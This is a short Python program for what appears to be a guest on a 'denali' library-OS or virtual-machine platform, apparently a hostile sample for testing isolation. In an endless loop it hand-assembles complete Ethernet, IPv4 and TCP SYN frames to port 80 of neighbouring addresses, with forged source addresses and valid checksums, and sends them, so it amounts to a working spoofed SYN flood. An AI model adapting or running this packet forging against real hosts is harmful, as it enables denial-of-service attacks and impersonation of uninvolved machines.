"""Opens connections to its neighbours in the name of guests that never asked for any; the first frame ends it."""

import numpy as np

from denali.isa.virtual import address_of
from denali.libos import machine
from denali.libos.net import wire

NEIGHBOURS = 64

frame = np.zeros(54, np.uint8)


def main() -> None:
    """Send SYNs with false senders for ever."""
    while True:
        target = address_of(max(1, machine.number() - NEIGHBOURS // 2 + machine.random() % NEIGHBOURS))
        forge(target, address_of(1 + machine.random() % 1000))
        machine.send(frame, len(frame))
        machine.idle(machine.clock() + 100_000)


def forge(target: int, sender: int) -> None:
    """Write a SYN to port 80 of the target that seems to come from somebody else."""
    wire.put16(frame, 0, 0x0200)
    wire.put32(frame, 2, target)
    wire.put16(frame, 6, 0x0200)
    wire.put32(frame, 8, sender)
    wire.put32(frame, 12, 0x08004500)
    wire.put32(frame, 16, 40 << 16)
    wire.put32(frame, 20, 0x00004006)
    wire.put16(frame, 24, 0)
    wire.put32(frame, 26, sender)
    wire.put32(frame, 30, target)
    wire.put16(frame, 24, wire.checksum(wire.total(frame, 14, 20)))
    wire.put32(frame, 34, (machine.random() & 0xFFFF) << 16 | 80)
    wire.put32(frame, 38, machine.random() & wire.WORD)
    wire.put32(frame, 42, 0)
    wire.put32(frame, 46, 0x50020400)
    wire.put32(frame, 50, 0)
    wire.put16(frame, 50, wire.checksum(wire.total(frame, 26, 28) + 6 + 20))
